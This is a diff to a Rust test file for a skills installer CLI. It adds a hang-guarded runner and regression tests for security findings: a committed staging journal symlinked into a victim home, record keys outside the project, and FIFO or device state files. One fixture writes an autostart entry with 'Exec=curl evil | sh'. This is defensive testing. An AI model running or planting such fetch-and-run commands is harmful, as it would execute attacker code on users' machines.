@@ -1,12 +1,13 @@
 //! `skills install|status|uninstall SRC...` and `skills extract`: the
-//! installer programs use (skills_runtime::install), driven from the
-//! command line over skill folders and bundle files, in a temporary home
-//! and project.
+//! installer programs use (`skills_install`, re-exported as
+//! `skills_runtime::install`), driven from the command line over skill
+//! folders and bundle files, in a temporary home and project.
 
 mod support;
 
 use std::path::{Path, PathBuf};
-use std::process::{Command, Output};
+use std::process::{Command, Stdio};
+use std::time::{Duration, Instant};
 
 use support::tree::{copy_tree, scratch, write};
 use support::{run_skills, testdata};
@@ -19,23 +20,43 @@ fn world(name: &str) -> PathBuf {
     root
 }
 
+/// Far above what any case needs: only a hang reaches it.
+const HANG_GUARD: Duration = Duration::from_secs(60);
+
+/// Runs `skills ARGS` in the project with the home of `root`, and waits
+/// for it no longer than the hang guard (a run that waits on a pipe fails
+/// the test instead of stopping the suite). Its output goes to files
+/// beside the project, read when it has ended.
 fn skills(root: &Path, args: &[&str]) -> (i32, String, String) {
-    let out: Output = Command::new(env!("CARGO_BIN_EXE_skills"))
+    let output = |name: &str| std::fs::File::create(root.join(name)).unwrap();
+    let mut child = Command::new(env!("CARGO_BIN_EXE_skills"))
         .args(args)
         .current_dir(root.join("project"))
         .env("HOME", root.join("home"))
         .env_remove("CLAUDE_CONFIG_DIR")
         .env_remove("CODEX_HOME")
         .env_remove("XDG_CONFIG_HOME")
-        .output()
+        .env_remove("XDG_STATE_HOME")
+        .stdin(Stdio::null())
+        .stdout(output("stdout"))
+        .stderr(output("stderr"))
+        .spawn()
         .unwrap();
-    let err = String::from_utf8_lossy(&out.stderr).into_owned();
+    let start = Instant::now();
+    let status = loop {
+        if let Some(status) = child.try_wait().unwrap() {
+            break status;
+        }
+        if start.elapsed() > HANG_GUARD {
+            let _ = child.kill();
+            panic!("skills {args:?}: still running after {HANG_GUARD:?}");
+        }
+        std::thread::sleep(Duration::from_millis(5));
+    };
+    let read = |name: &str| std::fs::read_to_string(root.join(name)).unwrap();
+    let err = read("stderr");
     assert!(!err.contains("panicked"), "{args:?}: {err}");
-    (
-        out.status.code().unwrap_or(-1),
-        String::from_utf8_lossy(&out.stdout).into_owned(),
-        err,
-    )
+    (status.code().unwrap_or(-1), read("stdout"), err)
 }
 
 /// Every file under `root`, by relative path.
@@ -265,4 +286,207 @@ fn host_fields_are_installed_as_written_and_noted_where_ignored() {
             "Cursor: ignores argument-hint, model"
         ]
     );
+}
+
+/// Everything under `root`, links not followed: files with their bytes,
+/// folders, links with their targets, anything else by its kind.
+fn tree(root: &Path) -> Vec<(PathBuf, String)> {
+    let mut out = Vec::new();
+    let mut stack = vec![root.to_path_buf()];
+    while let Some(dir) = stack.pop() {
+        let Ok(items) = std::fs::read_dir(&dir) else {
+            continue;
+        };
+        for item in items {
+            let path = item.unwrap().path();
+            let meta = std::fs::symlink_metadata(&path).unwrap();
+            let what = if meta.file_type().is_symlink() {
+                format!("link {}", std::fs::read_link(&path).unwrap().display())
+            } else if meta.is_dir() {
+                stack.push(path.clone());
+                "folder".to_string()
+            } else if meta.is_file() {
+                format!("file {:?}", std::fs::read(&path).unwrap())
+            } else {
+                "special".to_string()
+            };
+            out.push((path.strip_prefix(root).unwrap().to_path_buf(), what));
+        }
+    }
+    out.sort();
+    out
+}
+
+/// Finding 0 (issue 28): OpenClaw's project folder is `<project>/skills`,
+/// where authors keep their sources; installing or uninstalling those
+/// sources there is refused, and nothing is removed.
+#[test]
+fn finding_0_the_source_folder_is_never_an_install_target() {
+    let root = world("finding0-openclaw");
+    let project = root.join("project");
+    copy_tree(&testdata("skills"), &project.join("skills"));
+    let before = tree(&project);
+    let (code, out, err) = skills(
+        &root,
+        &["install", "skills", "--agent", "openclaw", "--dry-run"],
+    );
+    assert_eq!(code, 1, "{out}{err}");
+    assert!(
+        out.contains("is the folder the skills are read from"),
+        "{out}{err}"
+    );
+    for agents in ["openclaw", "all"] {
+        let (code, out, err) = skills(&root, &["uninstall", "skills", "--agent", agents]);
+        assert_eq!(code, 1, "{out}{err}");
+        assert_eq!(tree(&project), before, "uninstall --agent {agents}");
+        let (code, out, err) = skills(&root, &["install", "skills", "--agent", agents]);
+        assert_eq!(code, 1, "{out}{err}");
+        assert_eq!(tree(&project), before, "install --agent {agents}");
+    }
+
+    // Sources kept in `.claude/skills`, the folder Claude Code reads.
+    let root = world("finding0-claude");
+    let project = root.join("project");
+    copy_tree(&testdata("skills"), &project.join(".claude/skills"));
+    let before = tree(&project);
+    let (code, out, err) = skills(&root, &["uninstall", ".claude/skills"]);
+    assert_eq!(code, 1, "{out}{err}");
+    assert!(
+        out.contains("is the folder the skills are read from"),
+        "{out}{err}"
+    );
+    assert_eq!(tree(&project), before, "uninstall .claude/skills");
+    // One skill of it as the source: the target holds the source.
+    let (code, out, err) = skills(&root, &["uninstall", ".claude/skills/pdf-forms"]);
+    assert_eq!(code, 1, "{out}{err}");
+    assert!(out.contains("holds the folder"), "{out}{err}");
+    assert_eq!(tree(&project), before, "uninstall .claude/skills/pdf-forms");
+}
+
+/// Finding 1 (issue 28): a repository that commits
+/// `.claude/skills/.skills-staging/skills.project.1-1` with a journal
+/// naming paths through a link to the user's home changes nothing there.
+#[cfg(unix)]
+#[test]
+fn finding_1_a_committed_staging_journal_changes_nothing_outside() {
+    let root = world("finding1");
+    let victim = root.join("victim-home");
+    write(&victim, "docs/thesis.md", "years of work\n");
+    write(&victim, ".ssh/id_ed25519", "secret key\n");
+    std::fs::create_dir_all(victim.join(".config")).unwrap();
+    let skills_dir = root.join("project/.claude/skills");
+    let staging = skills_dir.join(".skills-staging/skills.project.1-1");
+    write(
+        &staging,
+        "old/L/.config/autostart/evil.desktop",
+        "[Desktop Entry]\nExec=curl evil | sh\n",
+    );
+    write(&staging, "undone/L/.keep", "");
+    std::fs::create_dir_all(staging.join("undone/L/.ssh")).unwrap();
+    write(
+        &staging,
+        "journal",
+        "L/docs\t0\t1\nL/.ssh/id_ed25519\t0\t1\nL/.config/autostart\t1\t0\n",
+    );
+    std::os::unix::fs::symlink(&victim, skills_dir.join("L")).unwrap();
+    let victim_before = tree(&victim);
+    let staging_before = tree(&staging);
+    let src = testdata("skills");
+    let src = src.to_str().unwrap();
+    for args in [
+        &["status", src][..],
+        &["install", src],
+        &["status", src],
+        &["uninstall", src],
+        &["install", src, "--force"],
+    ] {
+        let (_, out, err) = skills(&root, args);
+        assert_eq!(tree(&victim), victim_before, "{args:?}: {out}{err}");
+        assert_eq!(tree(&staging), staging_before, "{args:?}: {out}{err}");
+    }
+    assert!(!victim.join(".config/autostart").exists());
+}
+
+/// Finding 2 (issue 28): folder keys of a committed record outside the
+/// project (`../outside`, an absolute path) are never written to.
+#[test]
+fn finding_2_record_folder_keys_outside_the_project_are_refused() {
+    let root = world("finding2");
+    let outside = root.join("outside");
+    let absolute = root.join("absolute");
+    std::fs::create_dir_all(&outside).unwrap();
+    std::fs::create_dir_all(&absolute).unwrap();
+    let folder = |key: &str| {
+        format!(
+            r#""{key}": {{"agents": ["claude-code"], "created": [], "skills": {{"pdf-forms": {{"revision": "", "link": null, "files": {{}}}}}}}}"#
+        )
+    };
+    write(
+        &root.join("project"),
+        ".agents/.skills-install/skills.project.json",
+        format!(
+            r#"{{"format": "skills-install-record-v1", "tool": "skills", "version": "0.1.0",
+  "scope": "project", "bundle_revision": "", "transaction": "",
+  "directories": {{{}, {}}}}}"#,
+            folder("../outside"),
+            folder(absolute.to_str().unwrap())
+        ),
+    );
+    let src = testdata("skills");
+    let src = src.to_str().unwrap();
+    for args in [&["install", src][..], &["install", src, "--force"]] {
+        let (code, out, err) = skills(&root, args);
+        assert_eq!(code, 1, "{args:?}: {out}{err}");
+        assert!(tree(&outside).is_empty(), "{args:?}: {out}{err}");
+        assert!(tree(&absolute).is_empty(), "{args:?}: {out}{err}");
+    }
+}
+
+/// Puts a hostile state file in the state folder (first), maybe pointing
+/// at a folder outside (second).
+#[cfg(unix)]
+type Plant = fn(&Path, &Path);
+
+/// Finding 3 (issue 28): a record or lock that is a pipe, a link to a
+/// device or a link out is refused or passed by, never waited on, read
+/// without end, or created through.
+#[cfg(unix)]
+#[test]
+fn finding_3_state_files_are_never_opened_as_found() {
+    let src = testdata("skills");
+    let src = src.to_str().unwrap();
+    let cases: [(&str, Plant); 4] = [
+        ("record is a FIFO", |state, _| {
+            mkfifo(&state.join("skills.project.json"))
+        }),
+        ("lock is a FIFO", |state, _| mkfifo(&state.join("lock"))),
+        ("record links to /dev/zero", |state, _| {
+            std::os::unix::fs::symlink("/dev/zero", state.join("skills.project.json")).unwrap()
+        }),
+        ("lock links to a missing file outside", |state, outside| {
+            std::os::unix::fs::symlink(outside.join("made-by-lock"), state.join("lock")).unwrap()
+        }),
+    ];
+    for (what, plant) in cases {
+        let root = world("finding3");
+        let state = root.join("project/.agents/.skills-install");
+        std::fs::create_dir_all(&state).unwrap();
+        let outside = root.join("outside");
+        std::fs::create_dir_all(&outside).unwrap();
+        plant(&state, &outside);
+        for action in ["status", "install", "uninstall"] {
+            let (code, out, err) = skills(&root, &[action, src]);
+            if what.starts_with("record") {
+                assert_eq!(code, 1, "{what}: {action}: {out}{err}");
+                assert!(err.contains("install record"), "{what}: {action}: {err}");
+            }
+            assert!(tree(&outside).is_empty(), "{what}: {action}: {out}{err}");
+        }
+    }
+}
+
+#[cfg(unix)]
+fn mkfifo(path: &Path) {
+    let made = Command::new("mkfifo").arg(path).status().expect("mkfifo");
+    assert!(made.success(), "mkfifo {}", path.display());
 }
